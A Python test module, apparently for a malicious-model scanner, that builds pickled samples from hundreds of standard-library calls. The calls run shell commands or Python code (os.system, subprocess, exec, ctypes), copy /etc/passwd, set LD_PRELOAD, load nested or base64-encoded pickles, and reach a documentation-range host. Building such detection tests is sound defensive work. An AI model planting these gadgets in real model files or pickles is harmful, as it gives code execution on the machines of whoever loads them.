"""What the standard library has that a pickle may call to run code, to start a program or to write a file."""

from __future__ import annotations

import base64
import zlib
from collections.abc import Iterator
from typing import Any

from tests.malicious_models.assembling import Build, at, attribute, call, method, module, new, pickled, then, with_keywords
from tests.malicious_models.sample import Payload, Sample

Named = Iterator[tuple[str, Any]]


def programs(p: Payload) -> Named:
    """Start a program, by a shell or without one."""
    shell, argv, marker = p.shell, p.argv, p.marker
    touch = "/usr/bin/touch"
    for name in ("os:system", "posix:system", "os:popen", "subprocess:getoutput", "subprocess:getstatusoutput"):
        yield name, call(name, shell)
    for name in ("run", "call", "check_call", "check_output", "Popen"):
        yield f"subprocess:{name}", call(f"subprocess:{name}", argv)
    yield "subprocess:Popen with a shell", call("subprocess:Popen", shell, -1, None, None, None, None, None, True, True)
    yield "subprocess:run by keyword", call(new("functools:partial", at("subprocess:run"), shell, shell=True))  # noqa: S604 - it goes into a pickle
    yield "os:spawnv", call("os:spawnv", 0, touch, argv)
    yield "os:spawnve", call("os:spawnve", 0, touch, argv, {})
    yield "os:spawnvp", call("os:spawnvp", 0, "touch", argv)
    yield "os:spawnvpe", call("os:spawnvpe", 0, "touch", argv, {"PATH": "/usr/bin:/bin"})
    yield "os:spawnl", call("os:spawnl", 0, touch, *argv)
    yield "os:spawnlp", call("os:spawnlp", 0, "touch", *argv)
    yield "os:_spawnvef", call("os:_spawnvef", 0, touch, argv, None, at("os:execv"))
    yield "os:execv", call("os:execv", touch, argv)
    yield "os:execlp", call("os:execlp", *argv[:1], *argv)
    yield "posix:execv", call("posix:execv", touch, argv)
    yield "os:posix_spawn", call("os:posix_spawn", touch, argv, {})
    yield "posix:posix_spawn", call("posix:posix_spawn", touch, argv, {})
    yield "os:posix_spawnp", call("os:posix_spawnp", "touch", argv, {"PATH": "/usr/bin:/bin"})
    pipe = (-1,) * 6
    fork = (
        [os.encode() for os in argv],
        (touch.encode(),),
        False,
        (),
        None,
        None,
        *pipe,
        0,
        2,
        True,
        False,
        -1,
        None,
        None,
        None,
    )
    yield "_posixsubprocess:fork_exec", call("_posixsubprocess:fork_exec", *fork, -1, None, False)
    yield "pty:spawn", call("pty:spawn", argv)
    yield "uuid:_get_command_stdout", call("uuid:_get_command_stdout", *argv)
    yield "imaplib:IMAP4_stream", call("imaplib:IMAP4_stream", shell)
    yield "pydoc:pipepager", call("pydoc:pipepager", "", shell)
    yield "pydoc:tempfilepager", call("pydoc:tempfilepager", "", f"{shell}; true")
    yield "webbrowser:GenericBrowser", method(call("webbrowser:GenericBrowser", "touch"), "open", marker)
    yield "webbrowser:BackgroundBrowser", method(call("webbrowser:BackgroundBrowser", argv), "open", marker)
    yield "webbrowser:get", method(call("webbrowser:get", "touch %s"), "open", marker)
    yield "_osx_support:_read_output", call("_osx_support:_read_output", f"{shell};true")
    yield "mailcap:findmatch", call("mailcap:findmatch", {"a/b": [{"view": "true", "test": shell}]}, "a/b")
    yield "distutils.spawn:spawn", call("distutils.spawn:spawn", argv)
    command = Build(call("types:SimpleNamespace"), {"dry_run": 0})
    yield "distutils.cmd:Command.spawn", call("distutils.cmd:Command.spawn", command, argv)
    pipes = call("pipes:Template")
    steps = (method(pipes, "append", f"cat; {shell}", "--"), method(pipes, "copy", "/dev/null", "/dev/null"))
    yield "pipes:Template", then(*steps)
    transport = Build(call("types:SimpleNamespace"), {})
    start = "asyncio.unix_events:_UnixSubprocessTransport._start"
    yield start, call(start, transport, shell, True, None, None, None, 0)
    yield "asyncio:create_subprocess_shell", call("asyncio:run", call("asyncio:create_subprocess_shell", shell))
    yield "ensurepip:_run_pip", call("ensurepip:_run_pip", f"[]; {p.python}")
    yield "pip:main", call("pip:main", ["list", "--log", marker])
    yield "test.support.script_helper", call("test.support.script_helper:assert_python_ok", "-c", p.python)
    library = call("ctypes:CDLL", None)
    yield "ctypes:CDLL", method(library, "system", shell.encode())
    yield "ctypes:PyDLL", method(call("ctypes:PyDLL", None), "PyRun_SimpleString", p.python.encode())
    yield "ctypes:pythonapi", call("ctypes:pythonapi.PyRun_SimpleString", p.python.encode())
    yield "ctypes:cdll.LoadLibrary", method(call("ctypes:cdll.LoadLibrary", "libc.so.6"), "system", shell.encode())
    address = call("_ctypes:dlsym", call("_ctypes:dlopen", None, 2), "system")
    yield "_ctypes:call_function", call("_ctypes:call_function", address, (shell.encode(),))


def python(p: Payload) -> Named:
    """Run a text or a code object as Python."""
    text, marker = p.python, p.marker
    code = call("marshal:loads", p.code)
    compiled = call("builtins:compile", text, "x", "exec")
    plain = call("types:SimpleNamespace")
    yield "builtins:exec", call("builtins:exec", text)
    yield "builtins:eval", call("builtins:eval", text)
    yield "builtins:compile", call("builtins:exec", compiled)
    yield "marshal:loads", call("builtins:exec", code)
    yield "types:FunctionType", call(call("types:FunctionType", code, {}))
    yield "types:LambdaType", call(call("types:LambdaType", compiled, {}))
    yield "types:CodeType.replace", call("builtins:exec", call("types:CodeType.replace", code))
    yield "runpy:_run_code", call("runpy:_run_code", compiled, {})
    yield "runpy:_run_module_code", call("runpy:_run_module_code", compiled, None, "x")
    for name in ("timeit:timeit", "timeit:repeat"):
        yield name, call(name, text, "pass", at("time:perf_counter"), 1)
    yield "timeit:main", call("timeit:main", ["-n1", "-r1", text])
    yield "timeit:Timer", method(call("timeit:Timer", "pass", text), "timeit", 1)
    for name in ("cProfile", "profile"):
        yield f"{name}:run", call(f"{name}:run", text)
        yield f"{name}:runctx", call(f"{name}:runctx", text, {}, {})
        yield f"{name}:Profile.run", method(call(f"{name}:Profile"), "run", text)
        yield f"{name}:Profile.runctx", method(call(f"{name}:Profile"), "runctx", text, {}, {})
    yield "trace:Trace.run", method(call("trace:Trace", 0, 0), "run", text)
    yield "trace:Trace.runctx", method(call("trace:Trace", 0, 0), "runctx", text, {}, {})
    yield "bdb:Bdb.run", method(call("bdb:Bdb"), "run", text)
    yield "bdb:Bdb.runctx", method(call("bdb:Bdb"), "runctx", text, {}, {})
    yield "bdb:Bdb.runeval", method(call("bdb:Bdb"), "runeval", text)
    commands = call("io:StringIO", "continue\n")
    yield "pdb:Pdb.run", method(call("pdb:Pdb", "tab", commands, call("io:StringIO")), "run", text)
    yield "code:InteractiveInterpreter.runcode", method(call("code:InteractiveInterpreter"), "runcode", compiled)
    yield "code:InteractiveInterpreter.runsource", method(call("code:InteractiveInterpreter"), "runsource", text)
    yield "code:InteractiveConsole.push", method(call("code:InteractiveConsole"), "push", text)
    yield "code:interact", call("code:interact", "", attribute({">>> ": text}, "pop"), {"x": 1})
    yield "doctest:run_docstring_examples", call("doctest:run_docstring_examples", f">>> {text}\n", {})
    yield "doctest:debug_script", call("doctest:debug_script", text, True)
    yield "dataclasses:_create_fn", call("dataclasses:_create_fn", "f", [f"x={text}"], ["pass"])
    yield "typing:ForwardRef", method(call("typing:ForwardRef", text), "_evaluate", {}, {}, call("builtins:frozenset"))
    yield "typing:_eval_type", call("typing:_eval_type", call("typing:ForwardRef", text), {}, {})
    yield "lib2to3.pgen2.grammar:Grammar.loads", call("lib2to3.pgen2.grammar:Grammar.loads", plain, p.pickle)
    labels = Build(call("types:SimpleNamespace"), {"labels": [], "keywords": {}, "tokens": {}})
    make = "lib2to3.pgen2.pgen:ParserGenerator.make_label"
    yield make, call(make, plain, labels, f"''+str({text})")
    yield "idlelib.calltip:get_entity", call("idlelib.calltip:get_entity", text)
    yield "idlelib.calltip:Calltip.fetch_tip", method(new("idlelib.calltip:Calltip"), "fetch_tip", text)
    configuration = {"version": 1, "formatters": {"x": {"()": "os.system", "command": p.shell}}}
    yield "logging.config:dictConfig", call("logging.config:dictConfig", configuration)
    factory = {"version": 1, "handlers": {"x": {"class": "logging.FileHandler", "filename": marker}}}
    yield "logging.config:DictConfigurator", method(call("logging.config:DictConfigurator", factory), "configure")
    sections = "[loggers]\nkeys=root\n[handlers]\nkeys=h\n[formatters]\nkeys=\n[logger_root]\nhandlers=h\n[handler_h]\n"
    sections += f"class=FileHandler\nargs=({marker!r},)\n"
    yield "logging.config:fileConfig", call("logging.config:fileConfig", call("io:StringIO", sections))
    yield "sqlite3:connect", method(call("sqlite3:connect", marker), "execute", "create table a(b)")
    script = f"{marker}.py"
    wrote = call("pathlib:Path.write_text", call("pathlib:PosixPath", script), text)
    yield "runpy:run_path", then(wrote, call("runpy:run_path", script))
    yield "imp:load_source", then(wrote, call("imp:load_source", "x", script))
    loader = call("importlib.machinery:SourceFileLoader", "x", script)
    yield "importlib.machinery:SourceFileLoader", then(wrote, method(loader, "load_module"))
    spec = call("importlib.util:spec_from_file_location", "x", script)
    made = call("importlib.util:module_from_spec", spec)
    yield "importlib.util:module_from_spec", then(wrote, method(attribute(spec, "loader"), "exec_module", made))
    yield "distutils.core:run_setup", then(wrote, call("distutils.core:run_setup", script))
    yield (
        "code through sys.path",
        then(
            call("pathlib:Path.write_text", call("pathlib:PosixPath", script), text),
            call("sys:path.insert", 0, call("os.path:dirname", script)),
            call("builtins:__import__", call("pathlib:PurePath.stem.fget", call("pathlib:PosixPath", script))),
        ),
    )
    pth = call("pathlib:Path.write_text", call("pathlib:PosixPath", f"{marker}.pth"), f"import os; {text}\n")
    folder, _, base = marker.rpartition("/")
    yield "site:addpackage", then(pth, call("site:addpackage", folder, f"{base}.pth", call("builtins:set")))
    yield "site:addsitedir", then(pth, call("site:addsitedir", folder))
    archive = f"{marker}.zip"
    zipped = call("zipfile:ZipFile", archive, "w")
    entry = (method(zipped, "writestr", "evil_in_a_zip.py", text), method(zipped, "close"))
    loaded = method(call("zipimport:zipimporter", archive), "load_module", "evil_in_a_zip")
    yield "zipimport:zipimporter", then(*entry, loaded)


def files(p: Payload) -> Named:
    """Write, copy or fetch a file."""
    marker = p.marker
    path = call("pathlib:PosixPath", marker)
    for name in ("builtins:open", "io:open", "_io:open", "codecs:open", "io:FileIO", "_io:FileIO", "gzip:open", "bz2:open"):
        yield name, call(name, marker, "w")
    for name in (
        "lzma:open",
        "gzip:GzipFile",
        "bz2:BZ2File",
        "lzma:LZMAFile",
        "zipfile:ZipFile",
        "tarfile:open",
        "tarfile:TarFile",
    ):
        yield name, call(name, marker, "w")
    yield "io:open_code", then(call("io:open_code", "/dev/null"), call("_pyio:open", marker, "w"))
    for name in ("pathlib:Path.touch", "pathlib:PosixPath.touch", "pathlib:Path.mkdir"):
        yield name, call(name, path)
    yield "pathlib:Path.write_text", call("pathlib:Path.write_text", path, "x")
    yield "pathlib:Path.write_bytes", call("pathlib:Path.write_bytes", path, b"x")
    yield "pathlib:Path.symlink_to", call("pathlib:Path.symlink_to", path, "/dev/null")
    for name in (
        "os:mkdir",
        "posix:mkdir",
        "os:makedirs",
        "os:mkfifo",
        "os:mknod",
        "mailbox:Maildir",
        "mailbox:mbox",
        "mailbox:MH",
    ):
        yield name, call(name, marker)
    yield "os:open", call("os:open", marker, 0o102)
    yield "os:symlink", call("os:symlink", "/dev/null", marker)
    yield "shutil:copyfile", call("shutil:copyfile", "/etc/passwd", marker)
    yield "shutil:copy", call("shutil:copy", "/etc/passwd", marker)
    yield "shutil:copy2", call("shutil:copy2", "/etc/passwd", marker)
    yield "shutil:copytree", call("shutil:copytree", "/sys/class/net/lo/queues", marker)
    yield "logging:FileHandler", call("logging:FileHandler", marker)
    yield "logging.handlers:RotatingFileHandler", call("logging.handlers:RotatingFileHandler", marker)
    yield "distutils.file_util:write_file", call("distutils.file_util:write_file", marker, ["x"])
    yield "distutils.file_util:copy_file", call("distutils.file_util:copy_file", "/etc/passwd", marker)
    yield "test.support.os_helper", call("test.support.os_helper:create_empty_file", marker)
    yield "urllib.request:urlretrieve", call("urllib.request:urlretrieve", "data:,x", marker)
    yield "urllib.request:URLopener.retrieve", method(call("urllib.request:URLopener"), "retrieve", "file:///etc/passwd", marker)
    yield "tempfile:mkdtemp", call("os:rename", call("tempfile:mkdtemp", "", "", marker.rpartition("/")[0]), marker)
    yield "cProfile:run to a file", call("cProfile:run", "pass", marker)
    yield "trace:CoverageResults", call("pickle:dump", [], call("builtins:open", marker, "wb"))
    yield "py_compile:compile", call("py_compile:compile", "/dev/null", marker)
    yield "socket at a path", method(call("socket:socket", 1), "bind", marker)


def imports(p: Payload) -> Named:
    """Get at a function by way of importing, of attributes and of what other modules have imported."""
    shell, text = p.shell, p.python
    for name in ("builtins:__import__", "importlib:import_module", "importlib:__import__", "importlib._bootstrap:_gcd_import"):
        yield name, method(call(name, "os"), "system", shell)
    yield "importlib:reload", method(call("importlib:reload", module("os")), "system", shell)
    yield (
        "importlib._bootstrap:_load",
        method(call("importlib._bootstrap:_load", call("importlib.util:find_spec", "os")), "system", shell),
    )
    yield "pkgutil:resolve_name", call(call("pkgutil:resolve_name", "os:system"), shell)
    yield "pydoc:locate", call(call("pydoc:locate", "os.system"), shell)
    yield "pydoc:safeimport", method(call("pydoc:safeimport", "os"), "system", shell)
    resolved = call("xmlrpc.server:resolve_dotted_attribute", module("os"), "system")
    yield "xmlrpc.server:resolve_dotted_attribute", call(resolved, shell)
    yield "logging.config:_resolve", call(call("logging.config:_resolve", "os.system"), shell)
    for prefix in ("operator", "_operator"):
        yield f"{prefix}:attrgetter", call(call(call(f"{prefix}:attrgetter", "system"), module("os")), shell)
        yield f"{prefix}:methodcaller", call(call(f"{prefix}:methodcaller", "system", shell), module("os"))
        yield f"{prefix}:call", call(f"{prefix}:call", at("os:system"), shell)
        item = call(call(f"{prefix}:itemgetter", "system"), at("os:__dict__"))
        yield f"{prefix}:itemgetter", call(item, shell)
        yield f"{prefix}:getitem", call(call(f"{prefix}:getitem", at("posix:__dict__"), "system"), shell)
    yield "builtins:getattr", call(call("builtins:getattr", module("os"), "system"), shell)
    yield "builtins:vars", call(call("operator:getitem", call("builtins:vars", module("os")), "system"), shell)
    yield "inspect:getattr_static", call(call("inspect:getattr_static", module("os"), "system"), shell)
    yield "sys:modules", method(call("operator:getitem", at("sys:modules"), "os"), "system", shell)
    yield "sys:modules.get", method(call("sys:modules.get", "posix"), "system", shell)
    for name in ("shutil", "logging", "pathlib", "fnmatch", "glob", "ssl", "inspect", "linecache", "subprocess", "zipfile"):
        yield f"{name}:os.system", call(f"{name}:os.system", shell)
    for name in ("tarfile", "fileinput", "pdb", "uuid", "mimetypes", "webbrowser", "socket", "gettext", "bz2", "gzip"):
        yield f"{name}:os.system", call(f"{name}:os.system", shell)
    yield "tempfile:_os.system", call("tempfile:_os.system", shell)
    yield "random:_os.system", call("random:_os.system", shell)
    yield "logging.handlers:os.popen", call("logging.handlers:os.popen", shell)
    yield "asyncio.base_events:subprocess.getoutput", call("asyncio.base_events:subprocess.getoutput", shell)
    yield "concurrent.futures.process:os.system", call("concurrent.futures.process:os.system", shell)
    yield "collections:_sys.modules", method(call("collections:_sys.modules.get", "os"), "system", shell)
    yield "typing:sys.modules", method(call("typing:sys.modules.__getitem__", "os"), "system", shell)
    yield "collections:Counter, builtins", call(call("collections:Counter.__init__.__builtins__.get", "eval"), text)
    yield (
        "collections:OrderedDict, globals",
        call(call("operator:getitem", at("collections:namedtuple.__builtins__"), "exec"), text),
    )
    yield "os:_wrap_close, globals", call(call("os:_wrap_close.__init__.__globals__.get", "system"), shell)
    yield "builtins:__dict__", call(call("builtins:__dict__.get", "exec"), text)
    yield "importlib:sys.modules", method(call("importlib:sys.modules.__getitem__", "subprocess"), "getoutput", shell)


def callbacks(p: Payload) -> Named:
    """Have something else make the call."""
    shell, text = p.shell, p.python
    system, evaluate, run = at("os:system"), at("builtins:eval"), at("builtins:exec")
    late = call("functools:partial", system, shell)
    profile = call("functools:partial", at("cProfile:run"), text)
    mapped = call("builtins:map", system, [shell])
    yield "functools:partial", call(late)
    yield "functools:partial by keyword", call(new("functools:partial", at("os:system"), command=shell))
    yield "functools:partialmethod", call(method(call("functools:partialmethod", system), "__get__", shell, at("builtins:str")))
    yield "functools:reduce", call("functools:reduce", evaluate, [text, {}])
    yield "functools:reduce, getattr", call(call("functools:reduce", at("builtins:getattr"), ["system"], module("os")), shell)
    yield "functools:lru_cache", call(call(call("functools:lru_cache", 1), system), shell)
    yield "functools:singledispatch", call(call("functools:singledispatch", system), shell)
    for name in ("list", "tuple", "set", "frozenset", "bytes", "bytearray", "sum", "any", "all", "max", "min", "sorted", "next"):
        yield f"builtins:map in {name}", call(f"builtins:{name}", mapped)
    yield "collections:deque", call("collections:deque", mapped)
    yield "collections:Counter", call("collections:Counter", mapped)
    yield "array:array", call("array:array", "i", mapped)
    yield "builtins:filter", call("builtins:list", call("builtins:filter", system, [shell]))
    yield "builtins:iter", call("builtins:next", call("builtins:iter", late, 1))
    yield "builtins:zip", call("builtins:list", call("builtins:zip", mapped))
    yield "builtins:enumerate", call("builtins:list", call("builtins:enumerate", mapped))
    yield "str.join", call("builtins:str.join", "", call("builtins:map", at("subprocess:getoutput"), [shell]))
    for name in ("takewhile", "dropwhile", "filterfalse"):
        yield f"itertools:{name}", call("builtins:list", call(f"itertools:{name}", system, [shell]))
    yield "itertools:starmap", call("builtins:list", call("itertools:starmap", system, [(shell,)]))
    yield "itertools:groupby", call("builtins:list", call("itertools:groupby", [shell], system))
    yield "itertools:accumulate", call("builtins:list", call("itertools:accumulate", [text, {}], evaluate))
    yield "itertools:chain", call("builtins:list", call("itertools:chain", mapped))
    yield "heapq:nlargest", call("heapq:nlargest", 1, [shell, shell], system)
    yield "sorted by a key", with_keywords("builtins:sorted", [shell], key=system)
    yield "list.sort by a key", with_keywords("builtins:list.sort", [shell], key=system)
    yield "bisect by a key", with_keywords("bisect:bisect", [shell], 1, key=system)
    yield "collections:defaultdict", call("operator:getitem", call("collections:defaultdict", late), 1)
    chained = call("collections:ChainMap", call("collections:defaultdict", late))
    yield "collections:ChainMap", call("operator:getitem", chained, 1)
    proxy = call("types:MappingProxyType", call("collections:defaultdict", late))
    yield "types:MappingProxyType", call("operator:getitem", proxy, 1)
    yield "str.format_map", call("builtins:str.format_map", "{x}", call("collections:defaultdict", late))
    template = call("string:Template", "$x")
    yield "string:Template", method(template, "substitute", call("collections:defaultdict", late))
    yield "re:sub", call("re:sub", "x", profile, "x")
    yield "types:MethodType", call(call("types:MethodType", system, shell))
    yield "types:DynamicClassAttribute", method(call("types:DynamicClassAttribute", system), "__get__", shell)
    yield "builtins:property", method(call("builtins:property", system), "__get__", shell)
    yield "builtins:classmethod", call(method(call("builtins:classmethod", system), "__get__", None, shell))
    yield "functools:cached_property", method(call("functools:cached_property", run), "func", text)
    yield "types:new_class", call("types:new_class", "X", (), {}, call("functools:partial", run, text))
    yield "builtins:type", Build(call(call("builtins:type", "X", (), {"__setstate__": system})), shell)
    yield "abc:ABCMeta", Build(call(call("abc:ABCMeta", "X", (), {"__setstate__": system})), shell)
    getter = call("builtins:property", call("operator:methodcaller", "run", text))
    yield (
        "builtins:type with a property",
        attribute(call(call("builtins:type", "X", (at("cProfile:Profile"),), {"x": getter})), "x"),
    )
    yield "weakref:finalize", call("weakref:finalize", call("builtins:set"), system, shell)
    yield "weakref:ref", call("weakref:ref", call("builtins:set"), profile)
    yield "atexit:register", call("atexit:register", system, shell)
    yield "threading:Thread", method(call("threading:Thread", None, system, None, (shell,)), "start")
    yield "threading:Thread.run", method(call("threading:Thread", None, system, None, (shell,)), "run")
    yield "threading:Timer", method(call("threading:Timer", 0, system, (shell,)), "start")
    yield "_thread:start_new_thread", call("_thread:start_new_thread", system, (shell,))
    yield "multiprocessing.pool:ThreadPool", call("multiprocessing.pool:ThreadPool", 1, system, (shell,))
    yield "multiprocessing.pool:mapstar", call("multiprocessing.pool:mapstar", (system, [shell]))
    yield "multiprocessing.pool:starmapstar", call("multiprocessing.pool:starmapstar", (system, [(shell,)]))
    yield (
        "multiprocessing.process:BaseProcess.run",
        method(call("multiprocessing.context:ForkProcess", None, system, None, (shell,)), "run"),
    )
    yield "multiprocessing.util:Finalize", call(call("multiprocessing.util:Finalize", None, system, (shell,), None, 1))
    pool = call("concurrent.futures:ThreadPoolExecutor", 1)
    yield "concurrent.futures:ThreadPoolExecutor", method(pool, "submit", system, shell)
    yield "concurrent.futures.process:_process_chunk", call("concurrent.futures.process:_process_chunk", system, [(shell,)])
    future = call("concurrent.futures:Future")
    callback = method(future, "add_done_callback", profile)
    yield "concurrent.futures:Future", then(callback, method(future, "set_result", 1))
    scheduler = call("sched:scheduler")
    yield "sched:scheduler", then(method(scheduler, "enter", 0, 1, system, (shell,)), method(scheduler, "run"))
    stack = call("contextlib:ExitStack")
    yield "contextlib:ExitStack", then(method(stack, "callback", system, shell), method(stack, "close"))
    yield "copy:_reconstruct", call("copy:_reconstruct", None, None, system, (shell,))
    yield (
        "copyreg:__newobj_ex__",
        call("builtins:bytes", call("copyreg:__newobj_ex__", at("builtins:map"), (system, [shell]), {})),
    )
    yield "unittest:FunctionTestCase", method(call("unittest:FunctionTestCase", late), "runTest")
    yield "unittest.mock:Mock", call(call("unittest.mock:Mock", None, system), shell)
    yield "json:loads with a hook", with_keywords("json:loads", "{}", object_hook=call("functools:partial", run, text))
    yield "json:JSONDecoder with a hook", with_keywords("json:loads", "1", parse_int=profile)
    yield "codecs:register", then(call("codecs:register", profile), call("codecs:lookup", "no_such_codec_here"))
    yield "signal:signal", then(call("signal:signal", 10, profile), call("signal:raise_signal", 10))
    yield "tkinter:Tcl", method(call("tkinter:Tcl"), "eval", f"exec touch {p.marker}")


def nested(p: Payload) -> Named:
    """Have a pickle within the pickle read."""
    inner = p.pickle
    stream = call("io:BytesIO", inner)
    for name in ("pickle:loads", "_pickle:loads", "pickle:_loads", "multiprocessing.reduction:ForkingPickler.loads"):
        yield name, call(name, inner)
    for name in ("pickle:load", "_pickle:load", "pickle:_load"):
        yield name, call(name, stream)
    for name in ("pickle:Unpickler", "_pickle:Unpickler", "pickle:_Unpickler"):
        yield name, method(call(name, stream), "load")
    encoded = base64.b64encode(inner)
    yield "base64:b64decode", call("pickle:loads", call("base64:b64decode", encoded))
    yield "binascii:a2b_base64", call("pickle:loads", call("binascii:a2b_base64", encoded))
    yield "codecs:decode", call("pickle:loads", call("codecs:decode", encoded, "base64"))
    yield "bytes:fromhex", call("pickle:loads", call("builtins:bytes.fromhex", inner.hex()))
    yield "zlib:decompress", call("pickle:loads", call("zlib:decompress", zlib.compress(inner)))
    yield "pickle of a pickle of a pickle", call("pickle:loads", pickled(call("pickle:loads", inner)))


def platform_bound(p: Payload) -> Named:
    """What exists on Windows or macOS only, in older Pythons, or does harm that leaves no file."""
    shell = p.shell
    yield "nt:system", call("nt:system", shell)
    yield "nt:spawnv", call("nt:spawnv", 0, "cmd", ["cmd", "/c", "x"])
    yield "winreg:CreateKey", call("winreg:CreateKey", 1, "x")
    yield "_winreg:CreateKey", call("_winreg:CreateKey", 1, "x")
    yield "_winapi:CreateProcess", call("_winapi:CreateProcess", None, "cmd", None, None, 0, 0, None, None, None)
    yield "os:startfile", call("os:startfile", "calc.exe")
    yield "msilib:OpenDatabase", call("msilib:OpenDatabase", "x", 1)
    yield "_overlapped:CreateEvent", call("_overlapped:CreateEvent", None, 1, 1, None)
    yield "asyncio.windows_utils:Popen", call("asyncio.windows_utils:Popen", "calc.exe")
    yield "multiprocessing.popen_spawn_win32:Popen", call("multiprocessing.popen_spawn_win32:Popen", 1)
    yield "os2:system", call("os2:system", shell)
    yield "commands2:getoutput", call("popen2:popen3", shell)
    yield "platform:popen", call("platform:popen", shell)
    yield "os:popen2", call("os:popen2", shell)
    yield "execfile", call("__builtin__:execfile", p.marker)
    yield "_pyrepl:pager", call("_pyrepl.pager:pipe_pager", "", shell)
    yield "_pyrepl.simple_interact", call("_pyrepl.simple_interact:run_multiline_interactive_console", None)
    yield "_xxsubinterpreters:run_string", call("_xxsubinterpreters:run_string", 0, p.python)
    yield "_interpreters:exec", call("_interpreters:exec", 0, p.python)
    yield "idlelib.run:Executive.runcode", call("idlelib.run:Executive.runcode", None, p.python)
    yield "idlelib.pyshell:ModifiedInterpreter.runcode", call("idlelib.pyshell:ModifiedInterpreter.runcode", None, p.python)
    yield "idlelib.pyshell:ModifiedInterpreter.runcommand", call("idlelib.pyshell:ModifiedInterpreter.runcommand", None, p.python)
    yield "idlelib.autocomplete:AutoComplete.get_entity", call("idlelib.autocomplete:AutoComplete.get_entity", None, p.python)
    yield "idlelib.debugobj:ObjectTreeItem.SetText", call("idlelib.debugobj:ObjectTreeItem.SetText", None, p.python)
    for name in ("socket:create_connection", "smtplib:SMTP", "ftplib:FTP", "telnetlib:Telnet", "http.client:HTTPConnection"):
        yield name, call(name, ("192.0.2.1", 9) if name.startswith("socket") else "192.0.2.1")
    yield "urllib.request:urlopen", call("urllib.request:urlopen", "http://192.0.2.1/")
    yield "webbrowser:open", call("webbrowser:open", "http://192.0.2.1/")
    yield "xmlrpc.client:ServerProxy", call("xmlrpc.client:ServerProxy", "http://192.0.2.1/")
    yield "ssl:get_server_certificate", call("ssl:get_server_certificate", ("192.0.2.1", 443))
    yield "linecache:getlines", call("linecache:getlines", "/etc/passwd")
    yield "shutil:rmtree", call("shutil:rmtree", f"{p.marker}-that-is-not")
    yield "os:remove", call("os:remove", f"{p.marker}-that-is-not")
    yield "os:kill", call("os:kill", 2**22 + 1, 0)
    yield "os:_exit", call("os:_exit", 0)
    yield "sys:exit", call("sys:exit", 0)
    yield "builtins:exit", call("builtins:exit")
    yield "os:fork", call("os:fork")
    yield "os:abort", call("os:abort")
    yield "os:putenv", call("os:putenv", "LD_PRELOAD", "/x.so")
    yield "os:environ.update", call("os:environ.update", {"LD_PRELOAD": "/x.so"})
    yield "builtins:breakpoint", call("builtins:breakpoint")
    yield "builtins:input", call("builtins:input")
    yield "builtins:setattr", call("builtins:setattr", at("os:path"), "join", at("os:system"))
    yield "builtins:delattr", call("builtins:delattr", at("os:path"), "nothing")
    yield "builtins:globals", call("builtins:globals")
    yield "builtins:print", call("builtins:print", "x")
    yield "sys:settrace", call("sys:settrace", at("builtins:exec"))
    yield "sys:_getframe", call("sys:_getframe")
    yield "gc:get_objects", call("gc:get_objects")
    yield "resource:setrlimit", call("resource:setrlimit", 7, (1, 1))
    yield "time:sleep", call("time:sleep", 10**6)
    yield "re:compile, backtracking", call("re:match", "(a+)+$", "a" * 64 + "b")
    yield "xml external entity", call("xml.sax:parseString", b"<a/>", call("xml.sax.handler:ContentHandler"))
    yield "ctypes:string_at", call("ctypes:string_at", 0)
    yield "venv:create", call("venv:create", f"{p.marker}-venv")
    yield "turtle:Turtle", call("turtle:Turtle")
    yield "antigravity", call("antigravity:webbrowser.open", "http://192.0.2.1/")
    yield "this", at("this:s")
    yield "builtins:memoryview", call("builtins:int", "9" * 100_000)


UNPROVEN = "exists elsewhere only, or leaves no file"


def samples(p: Payload) -> Iterator[Sample]:
    for family in (programs, python, files, imports, callbacks, nested):
        for name, thing in family(p):
            yield Sample(f"{family.__name__}: {name}", "model.pkl", pickled(thing), "pickle")
    for name, thing in platform_bound(p):
        yield Sample(f"platform: {name}", "model.pkl", pickled(thing), "pickle", unproven=UNPROVEN)
